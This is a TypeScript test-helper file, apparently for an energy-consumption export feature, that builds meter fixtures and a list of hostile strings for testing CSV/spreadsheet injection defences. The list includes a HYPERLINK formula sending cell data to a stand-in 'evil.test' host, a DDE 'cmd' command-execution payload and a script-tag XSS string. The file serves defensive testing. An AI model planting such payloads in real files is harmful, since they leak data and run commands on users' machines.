import { startOfDay } from '@coprowatt/energy';
import fc from 'fast-check';
import { dayWindow } from '../consumption/window.ts';
import { columnsOf } from './columns.ts';
import { Tally, type ExportContent } from './export-content.ts';
import { exportHead } from './export-head.ts';
import type { ExportRow, ExportSubject } from './export-reader.ts';
import { exportTexts } from './texts/export-texts.ts';

/** Texts that people and attackers put into names, and the content of a file. */

export const HOSTILE_TEXTS = [
  '=1+1',
  '+33 6 12 34 56 78',
  '-2e sous-sol',
  '@SOMME(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '"=1+1"',
  "'=1+1",
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A1',
  '\ufe661+1',
  '\u22121',
  'x,=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x|=1+1',
  'x\r\n=1+1',
  'x,"=1+1"',
  `=HYPERLINK("http://evil.test?"&A1;"ici")`,
  `=cmd|' /C calc'!A0`,
  '<script>alert(1)</script>&amp;',
  ']]></t>',
  'a_x0041_b',
  'x\u0000\u0007\u001fy',
  'x\ud800y',
  'Été “à l’œuvre” 中文 😀',
];

/** Mostly pieces of formulas, marks and separators, in any order. */
export const aHostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc
    .array(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\uff1d',
        '\uff0d',
        ',',
        ';',
        '\t',
        '\r',
        '\n',
        '|',
        '"',
        "'",
        ' ',
        '\u00a0',
        'A1',
        '1',
        'é',
      ),
      { maxLength: 12 },
    )
    .map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

const ZONE = 'Europe/Paris';
const DEVICE = '00000000-0000-4000-8000-000000000001';
const NOW_MS = Date.parse('2026-10-27T10:00:00Z');

/** Half-hours from local midnight on. */
export function rowsFrom(date: string, values: readonly number[]): ExportRow[] {
  return values.map((value, index) => {
    const startMs = startOfDay(date, ZONE) + index * 1_800_000;
    const reading = { intervalSeconds: 1_800, deviceId: DEVICE, value, unit: 'Wh', powerW: 2 * value };
    return { startMs, reading: { timestamp: new Date(startMs).toISOString(), quality: 'read', ...reading } };
  });
}

/** Content of a file about one meter. */
export function contentOf(rows: ExportRow[], label = 'Ascenseur', pageSize = 7): ExportContent {
  const texts = exportTexts('fr', 'electricity_consumption', 'Wh');
  const columns = columnsOf('raw', 1, texts);
  const window = dayWindow('2026-10-24', '2026-10-27', ZONE);
  const subject: ExportSubject = {
    deviceIds: [DEVICE],
    metric: 'electricity_consumption',
    granularity: 'raw',
    window,
    span: { from: '2026-10-24', to: '2026-10-27' },
    expected: [],
    keptFrom: '2020-01-01',
  };
  const meter = { id: DEVICE, label, prmLast4: '0101', usage: 'common' } as const;
  const coverage = {
    completeness: 0.979_166,
    expectedMinutes: 1_440,
    coveredMinutes: 1_410,
    days: { whole: 0, partial: 1, missing: 0 },
    expectedFrom: null,
    keptFrom: null,
  };
  const building = { id: DEVICE, name: label };
  const head = exportHead({
    building,
    meters: [meter],
    subject,
    coverage,
    columns,
    language: 'fr',
    texts,
    nowMs: NOW_MS,
  });
  const tally = new Tally();
  async function* pages(): AsyncGenerator<ExportRow[]> {
    for (let from = 0; from < rows.length; from += pageSize) {
      const page = rows.slice(from, from + pageSize);
      tally.add(page);
      yield page;
    }
  }
  return { head, columns, texts, pages: pages(), tally };
}
